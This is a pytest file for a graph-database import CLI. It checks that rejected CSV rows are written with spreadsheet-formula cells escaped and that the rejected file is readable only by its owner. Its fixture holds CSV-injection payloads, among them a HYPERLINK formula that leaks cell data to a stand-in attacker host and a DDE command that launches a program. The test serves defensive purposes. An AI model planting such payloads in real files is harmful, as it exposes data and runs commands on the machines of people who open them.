"""FILE.rejected.csv: only its owner may read it, and no cell of it is a spreadsheet formula."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

from click.testing import CliRunner, Result

from graphdb.driver import Neo4jConnection
from resolvers.cli.main import main
from tests.support.cli import cli_env

# Every row is turned down, each with a cell a spreadsheet would run: the rejected file holds
# whatever the source held, and an operator opens it in a spreadsheet to see what went wrong.
HOSTILE_ORDERS = (
    "created_at,email,phone\n"
    '2021-01-01T09:00:00Z,"=HYPERLINK(""https://evil.example/?""&B2,""open"")",555\n'
    "+cmd|' /C calc'!A0,doc@hillvalley.edu,555\n"
    "2021-01-01T09:00:00Z,doc@hillvalley.edu,-2+3+cmd\n"
    "2021-01-01T09:00:00Z,@SUM(1+1),555\n"
    '2021-01-01T09:00:00Z,"\t=1+1","\r=2+2"\n'
    "2021-01-01T09:00:00Z,doc@hillvalley.edu,555,=extra\n"
)


def _import(connection: Neo4jConnection, path: Path) -> Result:
    return CliRunner().invoke(main, ["import", str(path)], env=cli_env(connection))


def _rejected_cells(source: Path) -> list[list[str]]:
    with source.with_suffix(".rejected.csv").open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def test_rejected_cells_that_a_spreadsheet_would_run_are_quoted_as_text(
    neo4j: Neo4jConnection, tmp_path: Path
) -> None:
    source = tmp_path / "orders.csv"
    source.write_text(HOSTILE_ORDERS, newline="")

    result = _import(neo4j, source)

    assert result.exit_code == 0, result.output
    assert "rejected:         6" in result.output
    header, *rows = _rejected_cells(source)
    assert header == ["line", "code", "reason", "created_at", "email", "phone"]
    assert [row[3:] for row in rows] == [
        ["2021-01-01T09:00:00Z", '\'=HYPERLINK("https://evil.example/?"&B2,"open")', "555"],
        ["'+cmd|' /C calc'!A0", "doc@hillvalley.edu", "555"],
        ["2021-01-01T09:00:00Z", "doc@hillvalley.edu", "'-2+3+cmd"],
        ["2021-01-01T09:00:00Z", "'@SUM(1+1)", "555"],
        ["2021-01-01T09:00:00Z", "'\t=1+1", "'\r=2+2"],
        ["2021-01-01T09:00:00Z", "doc@hillvalley.edu", "555", "'=extra"],
    ]


def test_the_rejected_file_is_the_owners_alone_even_when_an_older_one_was_not(
    neo4j: Neo4jConnection, tmp_path: Path
) -> None:
    source = tmp_path / "orders.csv"
    source.write_text("created_at,email,phone\nlast week,doc@hillvalley.edu,555\n")
    rejected = tmp_path / "orders.rejected.csv"

    assert _import(neo4j, source).exit_code == 0
    first_mode = stat.S_IMODE(rejected.stat().st_mode)
    # As a version that wrote it with the default umask would have left it.
    rejected.chmod(0o644)
    assert _import(neo4j, source).exit_code == 0

    assert first_mode == 0o600
    assert stat.S_IMODE(rejected.stat().st_mode) == 0o600
    assert len(_rejected_cells(source)) == 2
